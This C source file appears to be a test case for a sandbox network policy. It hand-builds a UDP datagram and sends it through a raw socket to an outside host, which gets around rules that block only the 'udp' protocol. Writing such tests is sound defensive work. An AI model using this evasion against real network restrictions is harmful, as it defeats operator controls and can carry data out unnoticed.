/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A datagram put together by hand and sent by a raw socket, where UDP is blocked.
 *
 * The packet is UDP all the same, but the socket is not: a rule on `udp` alone does not speak of it. The policy here blocks
 * `raw` too.
 *
 * ---
 * tries: [D4]
 * breaks: {network: {matchProtocols: [{protocol: udp}, {protocol: raw}]}}
 * wins: reached
 */
#include "attack.h"
#include <netinet/udp.h>

int main(void)
{
	struct {
		struct udphdr head;
		char text[100];
	} packet = { 0 };
	struct sockaddr_in to = outside();
	int s = socket(AF_INET, SOCK_RAW, IPPROTO_UDP), length = sizeof(packet.head) + strlen(word());

	must(s, "socket");
	packet.head.uh_sport = htons(4711);
	packet.head.uh_dport = to.sin_port;
	packet.head.uh_ulen = htons(length);
	strcpy(packet.text, word());
	to.sin_port = 0;
	must(sendto(s, &packet, length, 0, (struct sockaddr *)&to, sizeof(to)), "sendto");
	return 0;
}
